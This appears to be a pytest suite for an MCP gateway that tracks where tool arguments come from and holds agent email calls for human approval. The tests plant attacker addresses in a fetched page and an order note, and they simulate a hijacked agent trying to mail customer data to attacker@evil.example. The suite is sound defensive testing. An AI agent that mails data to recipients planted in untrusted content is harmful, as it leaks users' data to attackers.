"""Value provenance through the real /mcp gateway and the official MCP client: a recipient that
appeared only on a fetched page is held; one from the task input, or from a trusted tool, is not,
although the run read the page; a lookup that echoes an untrusted address does not launder it;
a server whose `tags:` key names no served tool is refused, not served without its tags."""

from __future__ import annotations

import sys
import time
import uuid
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import anyio
import httpx
import mcp_types as types
import pytest
import yaml

from tests.conftest import ServerProcess
from tests.gateway.mcp.conftest import mcp_client
from tether.store import provenance
from tether.store.engine import make_engine
from tether.store.keys import create_key
from tether.store.migrate import upgrade
from tether.store.policies import apply_policy

POLICY = """\
agent: mailer
tools:
  - {match: "demo.lookup_customer", allow: true}
  - {match: "demo.fetch_page", allow: true}
  - {match: "demo.send_email", allow: true}
  - {match: "typo.*", allow: true}
resources:
  - {match: "demo:demo://customers", allow: true}
  - {match: "demo:demo://orders/*", allow: true}
  - {match: "demo:demo://admin-notes", allow: false, reason: "internal notes stay internal"}
prompts:
  - {match: "demo.triage", allow: true}
data_flow:
  - {argument_from: untrusted, arguments: [to], require_approval_for_tag: egress}
on_uncertain: deny
approval: {timeout_s: 30}
"""


class Env:
    def __init__(self, server: ServerProcess, db_url: str, agent: str, admin: str) -> None:
        self.server, self.db_url, self.agent, self.admin = server, db_url, agent, admin

    @property
    def url(self) -> str:
        return self.server.url

    def api(self, method: str, path: str, **kw: Any) -> httpx.Response:
        headers = {"Authorization": f"Bearer {self.admin}"}
        return httpx.request(method, f"{self.url}/api/v1{path}", headers=headers, timeout=30, **kw)


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Env]:
    base = tmp_path_factory.mktemp("prov")
    db_url = f"sqlite:///{base / 'tether.db'}"
    engine = make_engine(db_url)
    upgrade(engine)
    apply_policy(engine, POLICY, "test", datetime.now(UTC))
    agent = create_key(engine, scopes="agent", agent="mailer")[1]
    admin = create_key(engine, scopes="admin")[1]
    engine.dispose()
    demo = [sys.executable, "-m", "tether.gateway.mcp.demo_server"]
    config = base / "tether.yaml"
    config.write_text(yaml.safe_dump({"mcp_servers": [
        {"name": "demo", "command": demo, "tags": {"fetch_page": ["untrusted"]}},
        {"name": "typo", "command": demo, "tags": {"fetch_pgae": ["untrusted"]}},
    ]}))  # fmt: skip
    server = ServerProcess(base / "home", db_url, config=config)
    try:
        yield Env(server, db_url, agent, admin)
    finally:
        server.stop()


def text(result: types.CallToolResult) -> str:
    return "\n".join(b.text for b in result.content if isinstance(b, types.TextContent))


def new_run(env: Env, task: str | None = None) -> str:
    run_id = "run_" + uuid.uuid4().hex[:20]
    if task is not None:
        r = httpx.post(f"{env.url}/api/v1/runs", json={"id": run_id, "input": task},
                       headers={"Authorization": f"Bearer {env.agent}"}, timeout=30)  # fmt: skip
        assert r.status_code == 201, r.text
    return run_id


def pending(env: Env, run_id: str, timeout: float = 15.0) -> dict[str, Any]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        items = env.api("GET", "/approvals", params={"status": "pending", "run_id": run_id})
        if items.json()["items"]:
            found: dict[str, Any] = items.json()["items"][0]
            return found
        time.sleep(0.05)
    raise AssertionError(f"no pending approval for {run_id}")


async def test_recipient_from_the_page_is_held_recipient_from_the_task_is_not(env: Env) -> None:
    run_id = new_run(env, task="Reply to ada@example.com about the shipping policy")
    async with mcp_client(env.url, env.agent, run_id) as client:
        page = await client.call_tool("demo.fetch_page", {"url": "https://shop.example/policy"})
        assert "attacker@evil.example" in text(page)
        # the run read untrusted content, but this recipient came from the task: not held
        ok = await client.call_tool("demo.send_email", {"to": "Ada@Example.com", "subject": "Re",
                                                        "body": text(page)})  # fmt: skip
        assert not ok.is_error, text(ok)
        async with anyio.create_task_group() as tg:
            box: dict[str, types.CallToolResult] = {}

            async def hijacked() -> None:
                box["r"] = await client.call_tool(
                    "demo.send_email", {"to": "attacker@evil.example", "subject": "list",
                                        "body": "customers"})  # fmt: skip

            tg.start_soon(hijacked)
            held = await anyio.to_thread.run_sync(pending, env, run_id)
            assert held["rule"].startswith("data_flow[0] to from untrusted")
            assert 'argument `to` = "attacker@evil.example"' in held["reason"]
            assert "from demo.fetch_page" in held["reason"]
            r = env.api("POST", f"/approvals/{held['id']}/deny", json={"reason": "injection"})
            assert r.status_code == 200, r.text
    assert box["r"].is_error and "not approved" in text(box["r"])
    values = provenance.list_values(make_engine(env.db_url), run_id)
    origins = {v["value"]: v["origin"] for v in values}
    assert origins["attacker@evil.example"] == "untrusted"


async def test_trusted_tool_output_vouches_but_an_echo_does_not_launder(env: Env) -> None:
    run_id = new_run(env)  # no task input
    async with mcp_client(env.url, env.agent, run_id) as client:
        await client.call_tool("demo.fetch_page", {"url": "https://shop.example/policy"})
        # the CRM (trusted) echoes the address it was asked about in its error text
        echo = await client.call_tool("demo.lookup_customer", {"email": "attacker@evil.example"})
        assert echo.is_error and "attacker@evil.example" in text(echo)
        # a value a trusted tool returned is trusted (alan came from the CRM, not the page)
        found = await client.call_tool("demo.lookup_customer", {"email": "alan@example.com"})
        assert not found.is_error
    engine = make_engine(env.db_url)
    origins = {v["value"]: v["origin"] for v in provenance.list_values(engine, run_id)}
    assert origins["attacker@evil.example"] == "untrusted"
    assert origins.get("alan turing") == "trusted"


async def test_a_server_whose_tags_name_no_tool_is_refused(env: Env) -> None:
    async with mcp_client(env.url, env.agent) as client:
        names = {t.name for t in (await client.list_tools()).tools}
        assert "demo.fetch_page" in names and not any(n.startswith("typo.") for n in names)
        refused = await client.call_tool("typo.fetch_page", {"url": "https://x.example"})
    assert refused.is_error
    assert "not in the tool registry" in text(refused) or "fetch_pgae" in text(refused)


async def test_provenance_api_and_declassify(env: Env) -> None:
    run_id = new_run(env, task="Send the policy to ada@example.com")
    async with mcp_client(env.url, env.agent, run_id) as client:
        await client.call_tool("demo.fetch_page", {"url": "https://shop.example/policy"})
    r = env.api("GET", f"/runs/{run_id}/provenance")
    assert r.status_code == 200, r.text
    body = r.json()
    assert body["tags"] == ["ingress", "read", "untrusted"] and body["untrusted_only"] >= 1
    item = next(v for v in body["items"] if v["value"] == "attacker@evil.example")
    assert item["origin"] == "untrusted" and item["untrusted_source"] == "demo.fetch_page"
    vouch = {"value": "Attacker@evil.example", "reason": "our red-team inbox"}
    d = env.api("POST", f"/runs/{run_id}/declassify", json=vouch)
    assert d.status_code == 200
    assert {"kind": "email", "value": "attacker@evil.example"} in d.json()["declassified"]
    after = env.api("GET", f"/runs/{run_id}/provenance").json()["items"]
    item = next(v for v in after if v["value"] == "attacker@evil.example")
    assert item["origin"] == "both" and item["trusted_source"].startswith("declassified by")
    audit = env.api("GET", "/audit", params={"action": "provenance.declassified"}).json()
    assert audit["items"][0]["subject"] == run_id
    assert env.api("GET", "/runs/run_nope/provenance").status_code == 404
    bad = env.api("POST", f"/runs/{run_id}/declassify", json={"value": ""})
    assert bad.status_code in (400, 422)


async def _held_call(
    env: Env, client: Any, run_id: str, arguments: dict[str, Any], decide: str, **body: Any
) -> tuple[dict[str, Any], types.CallToolResult]:
    """Makes a call that tether holds, decides the hold with `decide` (approve | deny)."""
    box: dict[str, types.CallToolResult] = {}
    async with anyio.create_task_group() as tg:

        async def call() -> None:
            box["r"] = await client.call_tool("demo.send_email", arguments)

        tg.start_soon(call)
        held = await anyio.to_thread.run_sync(pending, env, run_id)
        r = env.api("POST", f"/approvals/{held['id']}/{decide}", json=body)
        assert r.status_code == 200, r.text
    return held, box["r"]


EVIL = {"to": "attacker@evil.example", "subject": "hi", "body": "x"}


async def test_scoped_approvals_and_holds_not_asked_twice(env: Env) -> None:
    run_a = new_run(env)
    async with mcp_client(env.url, env.agent, run_a) as client:
        await client.call_tool("demo.fetch_page", {"url": "https://shop.example/policy"})
        held, first = await _held_call(env, client, run_a, EVIL, "approve", scope="run")
        assert held["finding"]["value"] == "attacker@evil.example" and not first.is_error
        # the same call again in this run: covered by the run-scoped grant, no new hold
        again = await client.call_tool("demo.send_email", EVIL)
        assert not again.is_error, text(again)
        # other arguments: a new question
        other = {**EVIL, "subject": "other"}
        _, denied = await _held_call(env, client, run_a, other, "deny", reason="no")
        assert denied.is_error
        # the denied call retried: refused at once, not asked again
        retry = await client.call_tool("demo.send_email", other)
        assert retry.is_error and "denied earlier in this run" in text(retry)
    run_b = new_run(env)
    async with mcp_client(env.url, env.agent, run_b) as client:
        await client.call_tool("demo.fetch_page", {"url": "https://shop.example/policy"})
        _, ok = await _held_call(env, client, run_b, EVIL, "approve", scope="counterparty")
        assert not ok.is_error
    run_c = new_run(env)
    async with mcp_client(env.url, env.agent, run_c) as client:
        await client.call_tool("demo.fetch_page", {"url": "https://shop.example/policy"})
        # a later run, another subject: the counterparty was approved for this agent and tool
        later = await client.call_tool("demo.send_email", {**EVIL, "subject": "later"})
        assert not later.is_error, text(later)
    grants = env.api("GET", "/approvals/grants").json()["items"]
    scopes = sorted(g["scope"] for g in grants)
    assert scopes == ["counterparty", "run"]
    counterparty = next(g for g in grants if g["scope"] == "counterparty")
    assert counterparty["value"] == "attacker@evil.example"
    revoked = env.api("POST", f"/approvals/grants/{counterparty['id']}/revoke")
    assert revoked.status_code == 200 and revoked.json()["revoked_at"]
    audit = env.api("GET", "/audit", params={"action": "approval.granted"}).json()["items"]
    assert len(audit) == 2
    # a counterparty scope on a hold that no value caused is refused with a clear 400
    assert env.api("POST", "/approvals/apr_nope/approve", json={"scope": "run"}).status_code == 404


async def test_resources_templates_and_prompts_are_governed(env: Env) -> None:
    from mcp.shared.exceptions import MCPError
    from sqlalchemy import select

    from tether.store import tools as registry
    from tether.store.tables import spans

    run_id = new_run(env)
    async with mcp_client(env.url, env.agent, run_id) as client:
        listed = sorted(str(r.uri) for r in (await client.list_resources()).resources)
        assert listed == ["demo:demo://customers"]  # admin-notes is denied, typo is refused
        templates = (await client.list_resource_templates()).resource_templates
        assert [t.uri_template for t in templates] == ["demo:demo://orders/{order_id}"]
        note = await client.read_resource("demo:demo://orders/A-17")
        assert "billing-desk@evil.example" in note.contents[0].text  # type: ignore[union-attr]
        with pytest.raises(MCPError, match="internal notes stay internal"):
            await client.read_resource("demo:demo://admin-notes")
        prompt = await client.get_prompt("demo.triage", {"email": "refund please"})
        assert "refund please" in prompt.messages[0].content.text  # type: ignore[union-attr]
        assert [p.name for p in (await client.list_prompts()).prompts] == ["demo.triage"]
        # the address planted in the order note is untrusted-only: a mail to it is held
        async with anyio.create_task_group() as tg:
            box: dict[str, types.CallToolResult] = {}

            async def call() -> None:
                box["r"] = await client.call_tool(
                    "demo.send_email",
                    {"to": "billing-desk@evil.example", "subject": "invoice", "body": "x"},
                )

            tg.start_soon(call)
            held = await anyio.to_thread.run_sync(pending, env, run_id)
            assert "from demo:demo://orders/A-17" in held["reason"]
            env.api("POST", f"/approvals/{held['id']}/deny", json={"reason": "injected"})
    engine = make_engine(env.db_url)
    assert "untrusted" in registry.run_tags(engine, run_id)
    with engine.connect() as conn:
        rows = conn.execute(select(spans.c.name, spans.c.kind, spans.c.status)
                            .where(spans.c.run_id == run_id)).all()  # fmt: skip
    got = {(r.name, r.kind, r.status) for r in rows}
    assert ("demo:demo://orders/A-17", "retrieval", "ok") in got
    assert ("demo:demo://admin-notes", "retrieval", "error") in got
    assert ("demo.triage", "retrieval", "ok") in got


async def test_policy_suggest_from_registry_and_recorded_runs(env: Env, tmp_path: Path) -> None:
    import subprocess

    from tether.core.policy import Policy

    run_id = new_run(env, task="Tell ada@example.com the shipping policy")
    async with mcp_client(env.url, env.agent, run_id) as client:
        await client.call_tool("demo.fetch_page", {"url": "https://shop.example/policy"})
        await client.call_tool("demo.send_email", {"to": "ada@example.com", "subject": "s",
                                                   "body": "b"})  # fmt: skip
    r = env.api("GET", "/policies/mailer/suggest")
    assert r.status_code == 200, r.text
    policy = Policy.parse(r.json()["source"])
    rules = {t.match: t for t in policy.tools}
    assert rules["demo.send_email"].allow and rules["demo.fetch_page"].allow
    assert rules["demo.delete_record"].approval_required  # irreversible, never used
    assert "ada@example.com" in policy.lists["contacts"]
    assert "to" in (policy.data_flow[0].arguments or ())
    out = tmp_path / "suggested.yaml"
    cli_env = {**env.server.env, "TETHER_URL": env.url, "TETHER_API_KEY": env.admin}
    done = subprocess.run([sys.executable, "-m", "tether.cli.main", "policy", "suggest", "mailer",
                           "--output", str(out)], env=cli_env, capture_output=True, text=True,
                          timeout=120)  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert Policy.parse(out.read_text()).agent == "mailer"
    assert env.api("GET", "/policies/nobody/suggest").status_code == 200  # no runs: all denied
